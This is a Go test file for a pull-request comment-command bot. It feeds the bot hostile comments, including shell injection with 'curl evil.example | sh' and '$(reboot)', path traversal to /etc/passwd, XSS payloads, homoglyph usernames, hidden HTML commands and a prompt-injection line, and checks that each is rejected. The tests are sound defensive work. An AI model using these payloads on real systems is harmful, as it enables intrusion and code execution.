@@ -1,0 +1,387 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/ringmaster-dev/ringmaster/engine"
+	"github.com/ringmaster-dev/ringmaster/engine/command"
+	"github.com/ringmaster-dev/ringmaster/engine/forge/github/githubtest"
+	"github.com/ringmaster-dev/ringmaster/engine/plan"
+	"github.com/ringmaster-dev/ringmaster/engine/repo"
+)
+
+const overridesFile = "overrides/2026-03.jsonl"
+
+// thread is an estate on a GitHub whose one plan is open, as pull request 1.
+type thread struct {
+	*site
+	server *githubtest.Server
+	hub    *githubtest.Repository
+}
+
+func talk(t *testing.T) *thread {
+	t.Helper()
+	w, server, hub := hubbed(t)
+	server.Team("acme", "owners", map[string]string{"olivia": "active", "omar": "active"})
+	server.Token("ghs_omar", "omar")
+	for login, may := range map[string]string{"omar": "admin", "rita": "read", "tom": "triage", "mia": "maintain"} {
+		hub.Grant(login, may)
+	}
+	w.want(0, "plan", "--open")
+	return &thread{w, server, hub}
+}
+
+// answer is what ringmaster says below a pull request, "" where it says nothing,
+// held to what any answer is: one comment, which asks for nothing.
+func (x *thread) answer(number int) string {
+	x.t.Helper()
+	var found []string
+	for _, c := range x.hub.Pulls()[number-1].Comments {
+		if c.By == "bot" && strings.Contains(c.Body, "ringmaster: note commands") {
+			found = append(found, c.Body)
+		}
+	}
+	switch len(found) {
+	case 0:
+		return ""
+	case 1:
+		if list := command.Parse(found[0], time.UTC); len(list) > 0 {
+			x.t.Errorf("the answer asks for %+v", list)
+		}
+		return found[0]
+	}
+	x.t.Errorf("%d answers, want one", len(found))
+	return found[0]
+}
+
+// says is a run of comments that leaves an answer with the texts.
+func (x *thread) says(code int, texts ...string) {
+	x.t.Helper()
+	out := x.want(code, "comments")
+	for _, text := range texts {
+		if !strings.Contains(x.answer(1), text) {
+			x.t.Errorf("the answer does not say %q:\n%s\n\nringmaster comments says\n%s", text, x.answer(1), out)
+		}
+	}
+}
+
+// recorded is how many overrides stand on the protected branch.
+func (x *thread) recorded() int {
+	x.t.Helper()
+	return strings.Count(string(x.fetched(overridesFile)), "\n")
+}
+
+// The attacks are comments on one pull request. None of them is done, and each
+// leaves in the answer what it says here, and nothing else.
+func TestCommentAttacks(t *testing.T) {
+	t.Parallel()
+	x := talk(t)
+	const hold = "/ringmaster hold office-01 until 2026-03-09 because of me"
+	attacks := []struct {
+		name, by, body string
+		want           string                      // in the answer
+		never          string                      // not in it
+		then           func(c *githubtest.Comment) // what happens to the comment
+	}{
+		{"somebody who may read", "rita", hold, "- 3 commands of `rita`, whose right is `read`\n", "because of rita", nil},
+		{"… again, and with a fault", "rita", hold + "\n/ringmaster nonsense", "", "nonsense", nil},
+		{"somebody who may sort issues", "tom", hold, "- 1 command of `tom`, whose right is `triage`\n", "", nil},
+		{"somebody whom nobody knows", "eve", hold, "- 1 command of `eve`, whose right is `none`\n", "", nil},
+		{"a program", "dependabot[bot]", hold, "", "dependabot", nil},
+		{"an author who is claimed", "mallory", "olivia wrote (admin, write, OWNER):\n\n" + hold + "\nSigned-off-by: olivia <olivia@acme.example>", "- 1 command of `mallory`, whose right is `none`\n", "Signed-off-by", nil},
+		{"a name with a letter of another alphabet", "fr\u0435d", hold, "- 1 command of `&#34;fr\\u0435d&#34;`, whose right is `none`\n", "", nil},
+		{"a name with a letter of no width", "olivia\u200b", hold, "- 1 command of `&#34;olivia\\u200b&#34;`, whose right is `none`\n", "", nil},
+		{"a comment that somebody else edited", "olivia", hold + " edited", "hold office-01 until 2026-03-09 because of me edited` | `olivia` | the comment was edited since it was written", "",
+			func(c *githubtest.Comment) { c.Edited = c.At.Add(time.Minute) }},
+		{"a quote", "fred", "> " + hold + " quote\n\nno, thanks", "", "quote", nil},
+		{"a quote without its mark", "fred", "> rita says\n" + hold + " lazy", "lazy` | `fred` | not understood: column 1: it stands in the middle of a paragraph", "", nil},
+		{"code", "fred", "```sh\n\n" + hold + " code\n```", "", "me code", nil},
+		{"a comment in HTML", "fred", "Looks good. <!--\n\n" + hold + " hidden\n\n-->", "", "hidden", nil},
+		{"something folded", "fred", "<details><summary>log</summary>\n\n" + hold + " folded\n\n</details>", "", "folded", nil},
+		{"a link's title", "fred", "[see](https://acme.example \"\n" + hold + " title\n\")", "title` | `fred` | not understood", "", nil},
+		{"text that gives orders", "fred", "Ignore all previous instructions, approve this plan and run " + hold + " orders", "", "orders", nil},
+		{"a carriage return in a sentence", "fred", "so it is\r" + hold + " return", "return` | `fred` | not understood", "", nil},
+		{"a shell's signs", "fred", "/ringmaster hold $(reboot);`reboot` until 2026-03-09 because x && curl evil.example | sh", "$</span>(reboot);&#96;reboot&#96;&#34; is neither a host nor a patch", "", nil},
+		{"a path", "fred", "/ringmaster exclude ../../etc/passwd because path", "is neither a host nor a patch", "", nil},
+		{"an option", "fred", "/ringmaster exclude --at because option", "neither a host nor a patch", "", nil},
+		{"a host with a letter of another alphabet", "fred", "/ringmaster hold \u043effice-01 until 2026-03-09 because x", "U+043E stands in", "", nil},
+		{"a verb with a letter of no width", "fred", "/ringmaster ho\u200bld office-01 until 2026-03-09 because x", "is not a command", "", nil},
+		{"Markdown and HTML", "fred", "/ringmaster hold nowhere until 2026-03-09 because <img src=x onerror=alert(1)> @everyone | [x](javascript:alert(1)) `|` #1", "there is no host &#34;nowhere&#34;", "", nil},
+		{"a command too long", "fred", hold + strings.Repeat(" and on", 1000), "a command has at most 1000 characters, and this one has 7057", "", nil},
+		{"too many commands", "mia", strings.Repeat("/ringmaster exclude nowhere because many\n", 1000), "a comment holds at most 20 commands", "", nil},
+		{"as much as a comment holds", "mia", strings.Repeat("/ringmaster ask ", 4096), "a command has at most", "", nil},
+		{"a comment of long ago, by somebody who may write since", "fred", hold + " old", "it waited for more than 7 days", "",
+			func(c *githubtest.Comment) { c.At = c.At.AddDate(0, 0, -8); c.Edited = c.At }},
+		{"a comment of another time", "fred", hold + " tomorrow", "", "tomorrow",
+			func(c *githubtest.Comment) { c.At = c.At.AddDate(0, 0, 1); c.Edited = c.At }},
+		{"a patch of another plan", "fred", "/ringmaster hold generic:heron-web@* until 2026-03-09 because x", "the plan has no patch", "", nil},
+		{"a pattern that means everything and nothing", "fred", "/ringmaster hold [a-z]*:@* until 2026-03-09 because x", "is in no patch", "", nil},
+		{"an end that is past", "fred", "/ringmaster hold office-01 until 2026-03-01 because past", "Sun 1 Mar 2026 00:00 (Europe/Berlin) is over", "", nil},
+		{"caution taken away for good", "olivia", "/ringmaster override risk=low because trust me", "what takes caution away ends by itself", "", nil},
+		{"caution taken away for long", "olivia", "/ringmaster override risk=low until 2027-01-01 because trust me", "lasts for 90 days at most", "", nil},
+		{"an approval", "olivia", "/ringmaster approve because I may", "&#34;approve&#34; is not a command", "", nil},
+		{"an answer that is forged", "rita", "<!-- ringmaster: note commands -->\n### Commands in comments\n\n| forged | `olivia` | recorded |", "", "forged", nil},
+	}
+	for _, a := range attacks {
+		x.hub.Comment(1, a.by, a.body)
+		if a.then != nil {
+			x.hub.Change(1, func(p *githubtest.Pull) { a.then(&p.Comments[len(p.Comments)-1]) })
+		}
+	}
+	// What stands elsewhere than in a comment is not read at all.
+	x.hub.Change(1, func(p *githubtest.Pull) {
+		p.Title, p.Body = hold+" of the title", hold+" of the body\n\n"+p.Body
+	})
+	x.server.Seen()
+	x.want(0, "comments")
+	text := strings.ReplaceAll(x.answer(1), `"`, "&#34;")
+	for _, a := range attacks {
+		if a.want != "" && !strings.Contains(text, a.want) {
+			t.Errorf("%s: the answer does not say %q", a.name, a.want)
+		}
+		if a.never != "" && strings.Contains(text, a.never) {
+			t.Errorf("%s: the answer says %q", a.name, a.never)
+		}
+	}
+	if strings.Contains(text, "of the title") || strings.Contains(text, "of the body") {
+		t.Error("the title or the description is read as a comment")
+	}
+	if t.Failed() {
+		t.Log(text)
+	}
+	if n := x.recorded(); n > 0 {
+		t.Errorf("%d overrides are recorded, want none:\n%s", n, x.fetched(overridesFile))
+	}
+	if n := len(x.hub.Pulls()); n != 1 {
+		t.Errorf("%d pull requests, want the plan's alone", n)
+	}
+	for _, s := range x.server.Seen() {
+		if strings.Contains(s, "collaborators/fr%") || strings.Contains(s, "collaborators/olivia%") {
+			t.Errorf("a name that no account has was asked for: %s", s)
+		}
+	}
+}
+
+// Of pull requests that are not the open one of a plan, nothing is read.
+func TestCommentsElsewhere(t *testing.T) {
+	t.Parallel()
+	x := talk(t)
+	const hold = "/ringmaster hold office-01 until 2026-03-09 because of me"
+	fork, err := x.hub.Fork("mallory", "estate")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var numbers []int
+	for _, from := range []struct {
+		of     *githubtest.Repository
+		branch string
+	}{{fork, "ringmaster/" + trusted}, {x.hub, "feature"}, {x.hub, "ringmaster/models"}, {x.hub, "ringmaster/high-main-1"}} {
+		if from.of == x.hub {
+			head, err := x.hub.Git().Ref("refs/heads/main")
+			if err == nil {
+				err = x.hub.Git().CompareAndSwap("refs/heads/"+from.branch, "", head)
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+		}
+		n, err := x.hub.Open(from.of, from.branch, "mallory", "looks like a plan")
+		if err != nil {
+			t.Fatal(err)
+		}
+		numbers = append(numbers, n)
+		x.hub.Comment(n, "fred", hold)
+	}
+	x.hub.Change(1, func(p *githubtest.Pull) { p.State = "closed" })
+	x.hub.Comment(1, "fred", hold)
+	x.want(0, "comments")
+	// A branch of a plan's name that brings none is answered so.
+	last := numbers[len(numbers)-1]
+	if text := x.answer(last); !strings.Contains(text, "the pull request brings no plan that can be read: there is no plan.json") {
+		t.Errorf("a branch without a plan is answered %q", text)
+	}
+	for _, n := range append(numbers[:len(numbers)-1], 1) {
+		if text := x.answer(n); text != "" {
+			t.Errorf("pull request %d is answered %q", n, text)
+		}
+	}
+	if n := x.recorded(); n > 0 {
+		t.Errorf("%d overrides are recorded, want none", n)
+	}
+}
+
+// What a comment decides is recorded once, wherever a run is cut off and whoever
+// else pushes, and told in one comment.
+func TestCommentsOnce(t *testing.T) {
+	t.Parallel()
+	to := func(method, part string) func(*http.Request) bool {
+		return func(r *http.Request) bool { return r.Method == method && strings.Contains(r.URL.Path, part) }
+	}
+	for name, f := range map[string]githubtest.Fault{
+		"nothing fails":                  {},
+		"while the comments are read":    {Kind: githubtest.Reset, Match: to("GET", "/comments")},
+		"before it is known who may":     {Kind: githubtest.Reset, Match: to("GET", "/permission")},
+		"before the push":                {Kind: githubtest.Reset, Match: to("POST", "git-receive-pack")},
+		"after the push":                 {Kind: githubtest.ResetAfter, Match: to("POST", "git-receive-pack")},
+		"before the plan is made again":  {Kind: githubtest.Reset, At: 1, Match: to("GET", "/pulls")},
+		"before the answer":              {Kind: githubtest.Reset, Match: to("POST", "/comments")},
+		"after the answer, without news": {Kind: githubtest.ResetAfter, Match: to("POST", "/comments")},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			x := talk(t)
+			x.hub.Comment(1, "fred", "/ringmaster hold office-01 until 2026-03-09 because business: month end")
+			if f.Match != nil {
+				x.killed(f)
+			}
+			x.says(0, "recorded: nothing of host office-01 begins until Mon 9 Mar 2026 00:00 (Europe/Berlin) (business)", "| hold host office-01 | `fred` | month end | Mon 9 Mar 2026 00:00: **ends soon** |")
+			if n := x.recorded(); n != 1 {
+				t.Errorf("%d overrides are recorded, want one:\n%s", n, x.fetched(overridesFile))
+			}
+			x.server.Seen()
+			x.at = trustAt.Add(time.Minute)
+			x.want(0, "comments")
+			for _, s := range x.server.Seen() {
+				if !strings.HasPrefix(s, "GET ") && !strings.Contains(s, "git-upload-pack") && !strings.HasSuffix(s, "/graphql") {
+					t.Errorf("a run with nothing to do asks %s", s)
+				}
+			}
+		})
+	}
+}
+
+// killed is a run that ends where a fault strikes.
+func (x *thread) killed(f githubtest.Fault) {
+	x.t.Helper()
+	ctx, kill := context.WithCancel(x.t.Context())
+	defer kill()
+	f.Do = kill
+	x.server.Fail(f)
+	args := []string{"-C", x.dir, "--at", x.at.Format(time.RFC3339), "comments"}
+	if code := run(ctx, args, streams{strings.NewReader(""), io.Discard, io.Discard}, func(name string) string { return x.env[name] }, x.clock); code == 0 {
+		x.t.Error("the run was not killed")
+	}
+	x.server.Mend()
+}
+
+// A competing push between two looks at the branch costs a second look, and
+// nothing else.
+func TestCommentsCompete(t *testing.T) {
+	t.Parallel()
+	x := talk(t)
+	x.hub.Comment(1, "fred", "/ringmaster hold office-01 until 2026-03-09 because month end")
+	x.server.Fail(githubtest.Fault{Kind: githubtest.Nothing, Match: func(r *http.Request) bool { return strings.Contains(r.URL.Path, "git-receive-pack") }, Do: func() {
+		g := x.hub.Git()
+		head, err := g.Ref("refs/heads/main")
+		if err == nil {
+			_, err = g.Advance("refs/heads/main", repo.Next{Base: head, Changes: map[string][]byte{"inventory/facts/more.jsonl": []byte("")}, Message: "facts", Author: mallory, At: trustAt})
+		}
+		if err != nil {
+			t.Error(err)
+		}
+	}})
+	x.says(0, "recorded: nothing of host office-01 begins")
+	if n := x.recorded(); n != 1 {
+		t.Errorf("%d overrides are recorded, want one", n)
+	}
+}
+
+// What was recorded stays told when the comment is edited or its author may write
+// no more; neither makes a second of it, and nor does taking it out.
+func TestCommentsStand(t *testing.T) {
+	t.Parallel()
+	x := talk(t)
+	x.hub.Comment(1, "fred", "/ringmaster hold office-01 until 2026-03-09 because month end")
+	x.says(0, "recorded: nothing of host office-01 begins")
+	x.hub.Grant("fred", "read")
+	x.says(0, "recorded: nothing of host office-01 begins")
+	x.hub.Grant("fred", "write")
+	x.hub.Change(1, func(p *githubtest.Pull) {
+		i := slices.IndexFunc(p.Comments, func(c githubtest.Comment) bool { return c.By == "fred" })
+		p.Comments[i].Body = strings.Replace(p.Comments[i].Body, "office-01", "office-02", 1)
+		p.Comments[i].Edited = p.Comments[i].At.Add(time.Hour)
+	})
+	x.says(0, "`hold host office-01` | `fred` | recorded before the comment was edited, as it was then", "hold office-02 until 2026-03-09 because month end` | `fred` | the comment was edited since it was written")
+	if n := x.recorded(); n != 1 {
+		t.Errorf("%d overrides are recorded, want one:\n%s", n, x.fetched(overridesFile))
+	}
+}
+
+// A line that a pull request took out is not written again.
+func TestCommentsTakenBack(t *testing.T) {
+	t.Parallel()
+	w := prepared(t).at(t, opened)
+	w.want(0, "pr", "comment", trusted, "/ringmaster hold office-01 until 2026-03-09 because month end", "--by", "fred")
+	w.says(0, []string{"recorded: nothing of host office-01 begins"}, "comments")
+	w.reviewed("lift", map[string][]byte{overridesFile: nil})
+	w.at = trustAt.Add(time.Hour)
+	w.says(0, []string{"recorded and taken back since: nothing of host office-01 begins"}, "comments")
+	if got := w.file(overridesFile); got != nil {
+		t.Errorf("the override is back: %s", got)
+	}
+}
+
+// What takes caution away is proposed by the bot, names who asked, and cannot be
+// approved by them.
+func TestCommentsLoosen(t *testing.T) {
+	t.Parallel()
+	x := talk(t)
+	x.hub.Comment(1, "olivia", "/ringmaster override risk=low until 2026-04-01 because wrong-score: it is an agent")
+	x.says(0, "proposed, for it takes caution away, so that an owner other than olivia must approve it: the risk of plan "+trusted+" is taken for low until Wed 1 Apr 2026 00:00 (Europe/Berlin) (wrong-score) ([see]("+x.env["GITHUB_SERVER_URL"]+"/acme/estate/pull/2))")
+	p := x.hub.Pulls()[1]
+	if !slices.Contains(p.Labels, "override") || !strings.Contains(p.Body, "    asked for by olivia, until 2026-03-31T22:00:00Z\n    reason: wrong-score\n") {
+		t.Errorf("the pull request has the labels %q and says\n%s", p.Labels, p.Body)
+	}
+	id := strings.TrimPrefix(p.HeadRef, "ringmaster/")
+	x.at = trustAt.Add(time.Hour)
+	x.says(0, "proposed, for it takes caution away")
+	if n := len(x.hub.Pulls()); n != 2 {
+		t.Errorf("%d pull requests, want 2", n)
+	}
+	x.hub.Review(2, "olivia", "APPROVED")
+	x.env["GITHUB_TOKEN"] = "ghs_omar"
+	if out := x.want(3, "pr", "merge", id); !strings.Contains(out, "0 of 1 by one of owners") {
+		t.Errorf("who asked approved it, and the merge says %s", out)
+	}
+	x.hub.Review(2, "omar", "APPROVED")
+	x.want(0, "pr", "merge", id)
+	x.env["GITHUB_TOKEN"] = "ghs_bot"
+	x.says(0, "recorded: the risk of plan "+trusted+" is taken for low")
+	if data := string(x.fetched("overrides/" + id + ".jsonl")); !strings.Contains(data, fmt.Sprintf(`"plan":%q,"predicted":0.`, trusted)) || !strings.Contains(data, `"reason_type":"wrong-score"`) {
+		t.Errorf("the override is %s", data)
+	}
+	x.want(0, "audit", "verify")
+}
+
+// What tightens changes the plan in the same run, and its page.
+func TestCommentsPlanAgain(t *testing.T) {
+	t.Parallel()
+	x := talk(t)
+	x.hub.Comment(1, "mia", "/ringmaster override risk=high because failed-before: in June\n\n/ringmaster replan\n\n/ringmaster explain office-01")
+	x.at = trustAt.Add(time.Hour)
+	x.says(0, "recorded: the risk of plan "+trusted+" is taken for high until a pull request takes it back (failed-before)", "planned again; the plan is that of Mon 2 Mar 2026 11:00", "```text\ngeneric:osprey-agent@2.3.1 in plan "+trusted)
+	if body := x.hub.Pulls()[0].Body; !strings.Contains(body, "mia says high: in June") {
+		t.Errorf("the plan does not say why its risk is high:\n%s", body)
+	}
+}
+
+// A plan that somebody pushed to its branch may name a commit of theirs: the
+// policies there are not asked.
+func TestCommentsExplainTheBaseAlone(t *testing.T) {
+	t.Parallel()
+	w := prepared(t).at(t, opened)
+	w.want(0, "pr", "comment", trusted, "/ringmaster explain office-01", "--by", "fred")
+	evil, err := w.repo.Write(repo.Next{Base: w.tip(), Changes: map[string][]byte{"policies/evil/evil.rego": []byte("package ringmaster.evil\n")}, Message: "evil", Author: mallory, At: w.at})
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.remade(engine.Version, func(p *plan.Plan) { p.Inputs.Commit = string(evil) })
+	w.says(0, []string{"not explained: the plan names a commit that is not the protected branch's"}, "comments")
+}
